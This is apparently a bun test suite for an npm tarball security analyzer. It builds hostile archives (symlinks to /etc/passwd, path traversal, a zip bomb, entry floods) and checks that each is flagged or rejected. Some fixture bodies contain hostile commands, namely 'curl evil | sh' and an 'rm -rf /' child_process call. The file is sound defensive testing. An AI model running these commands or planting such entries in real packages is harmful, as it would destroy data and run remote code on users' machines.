// Hostile archives, each built as a real tar.gz: the analysis either finishes within its bounds and
// records what is unsafe, or rejects the archive with a typed reason. Nothing is ever extracted.
import { describe, expect, test } from 'bun:test'
import { analyzeVersion, scoreVersion, type AnalysisResult, type VersionAnalysis } from '../src/index.ts'
import { buildTarGz, manifestEntry, type RawEntry } from './tar-builder.ts'

const manifest = { name: 'hostile', version: '1.0.0', license: 'MIT', description: 'a package built to attack the analyzer' }
const context = { now: Date.UTC(2026, 0, 1), versions: [{ version: '1.0.0', publishedAt: Date.UTC(2025, 11, 1) }] }

function ok(result: AnalysisResult): VersionAnalysis {
  if (result.status !== 'ok') throw new Error(`expected an analysis, got rejected: ${result.reason} ${result.message}`)
  return result
}

async function timed<T>(work: () => Promise<T>): Promise<{ value: T; ms: number }> {
  const started = performance.now()
  const value = await work()
  return { value, ms: performance.now() - started }
}

const text = (value: string) => new TextEncoder().encode(value)

describe('hostile tarballs', () => {
  test('a symlink is listed, never followed, and caps the score', async () => {
    const tarball = await buildTarGz([manifestEntry(manifest), { name: 'package/passwd', type: 'symlink', linkTarget: '/etc/passwd' }, { name: 'package/index.js', body: text('module.exports = 1') }])
    const analysis = ok(await analyzeVersion(tarball))
    expect(analysis.tarballProblems).toContainEqual({ kind: 'symlink', path: 'passwd' })
    expect(analysis.files.list.map((file) => file.path)).toEqual(['package.json', 'index.js'])
    const score = scoreVersion(analysis, context)
    expect(score.caps.map((cap) => cap.id)).toContain('unsafe-archive')
    expect(score.final).toBeLessThanOrEqual(30)
  })

  test('a hardlink to an outside path is recorded', async () => {
    const tarball = await buildTarGz([manifestEntry(manifest), { name: 'package/shadow', type: 'hardlink', linkTarget: '/etc/shadow' }])
    expect(ok(await analyzeVersion(tarball)).tarballProblems.map((problem) => problem.kind)).toContain('hardlink')
  })

  test('absolute paths and ../ entries are recorded and their content is not read', async () => {
    const tarball = await buildTarGz([
      manifestEntry(manifest),
      { name: '/etc/cron.d/evil', body: text('* * * * * root curl evil | sh') },
      { name: 'package/../../.bashrc', body: text('curl evil | sh') },
      { name: 'package/lib/../../../escape.js', body: text('require("child_process").exec("rm -rf /")') },
    ])
    const analysis = ok(await analyzeVersion(tarball))
    const kinds = analysis.tarballProblems.map((problem) => problem.kind)
    expect(kinds).toContain('absolute-path')
    expect(kinds.filter((kind) => kind === 'parent-traversal')).toHaveLength(2)
    // Unsafe entries are not counted as package files, so no scanner ever saw their content.
    expect(analysis.files.count).toBe(1)
    expect(analysis.code.scannedFiles).toBe(0)
    expect(scoreVersion(analysis, context).final).toBeLessThanOrEqual(30)
  })

  test('non-UTF-8 entry names are recorded', async () => {
    const badName = new Uint8Array([...text('package/'), 0xff, 0xfe, 0x80, ...text('.js')])
    const tarball = await buildTarGz([manifestEntry(manifest), { name: badName, body: text('x') }])
    const analysis = ok(await analyzeVersion(tarball))
    expect(analysis.tarballProblems.map((problem) => problem.kind)).toContain('non-utf8-name')
  })

  test('a zip bomb (300 MB of zeros in a 300 KB archive) is rejected as TOO_LARGE within bounds', async () => {
    const tarball = await buildTarGz([manifestEntry(manifest), { name: 'package/bomb.bin', body: { zeros: 300 * 1024 * 1024 } }], 9)
    expect(tarball.byteLength).toBeLessThan(1024 * 1024)
    const { value: result, ms } = await timed(() => analyzeVersion(tarball))
    expect(result.status).toBe('rejected')
    expect(result.status === 'rejected' && result.reason).toBe('TOO_LARGE')
    expect(ms).toBeLessThan(10_000)
    // Nothing of the bomb is kept: once collected, the heap is back where it was. (RSS cannot tell
    // streaming from buffering here: even streamed chunks are garbage until the collector runs.)
    Bun.gc(true)
    const heapBefore = process.memoryUsage().heapUsed
    const limited = await analyzeVersion(tarball, { limits: { maxUnpackedBytes: 64 * 1024 * 1024 } })
    expect(limited.status === 'rejected' && limited.reason).toBe('TOO_LARGE')
    Bun.gc(true)
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(8 * 1024 * 1024)
    const score = scoreVersion(result, context)
    expect(score.final).toBe(0)
    expect(score.caps[0]?.id).toBe('rejected')
  })

  test('a 50 MB single file is listed with its size but not read', async () => {
    const big = new Uint8Array(50 * 1024 * 1024)
    // Incompressible content, so the archive really is ~50 MB.
    for (let offset = 0; offset < big.byteLength; offset += 65_536) crypto.getRandomValues(big.subarray(offset, offset + 65_536))
    const tarball = await buildTarGz([manifestEntry(manifest), { name: 'package/data.bin', body: big }], 1)
    expect(tarball.byteLength).toBeGreaterThan(45 * 1024 * 1024)
    const { value, ms } = await timed(() => analyzeVersion(tarball))
    const analysis = ok(value)
    expect(analysis.files.largest[0]).toEqual({ path: 'data.bin', size: 50 * 1024 * 1024 })
    expect(analysis.files.unpackedSize).toBeGreaterThanOrEqual(50 * 1024 * 1024)
    expect(ms).toBeLessThan(10_000)
  })

  test('a 50 MB single JavaScript file is not buffered for scanning', async () => {
    const tarball = await buildTarGz([manifestEntry({ ...manifest, main: 'index.js' }), { name: 'package/index.js', body: { zeros: 50 * 1024 * 1024 } }])
    const analysis = ok(await analyzeVersion(tarball))
    expect(analysis.code.jsFiles).toBe(1)
    expect(analysis.code.scannedFiles).toBe(0)
  })

  test('a truncated gzip stream is rejected as INVALID_GZIP or INVALID_TAR', async () => {
    const entries: RawEntry[] = [manifestEntry(manifest), { name: 'package/index.js', body: crypto.getRandomValues(new Uint8Array(60_000)) }]
    const whole = await buildTarGz(entries)
    const result = await analyzeVersion(whole.subarray(0, Math.floor(whole.byteLength / 2)))
    expect(result.status).toBe('rejected')
    expect(result.status === 'rejected' && ['INVALID_GZIP', 'INVALID_TAR']).toContain(result.status === 'rejected' ? result.reason : '')
  })

  test('bytes that are not gzip at all are rejected', async () => {
    const result = await analyzeVersion(text('this is not a tarball, it is a plain string of text'))
    expect(result.status === 'rejected' && result.reason).toBe('INVALID_GZIP')
  })

  test('a million tiny entries are refused after the entry limit, quickly', async () => {
    function* entries(): Generator<RawEntry> {
      yield manifestEntry(manifest)
      for (let i = 0; i < 1_000_000; i++) yield { name: `package/f/${i}` }
    }
    const tarball = await buildTarGz(entries(), 1)
    const { value: result, ms } = await timed(() => analyzeVersion(tarball))
    expect(result.status === 'rejected' && result.reason).toBe('TOO_MANY_ENTRIES')
    expect(ms).toBeLessThan(10_000)
  }, 120_000)

  test('an archive without package.json and without a manifest is rejected as NO_MANIFEST', async () => {
    const tarball = await buildTarGz([{ name: 'package/index.js', body: text('1') }])
    const result = await analyzeVersion(tarball)
    expect(result.status === 'rejected' && result.reason).toBe('NO_MANIFEST')
  })

  test('a package.json that is not JSON falls back to the registry manifest and is flagged as a mismatch', async () => {
    const tarball = await buildTarGz([{ name: 'package/package.json', body: text('{ not json') }, { name: 'package/index.js', body: text('1') }])
    const analysis = ok(await analyzeVersion(tarball, { manifest }))
    expect(analysis.name).toBe('hostile')
    expect(analysis.manifest.mismatches).toContain('name')
  })
})
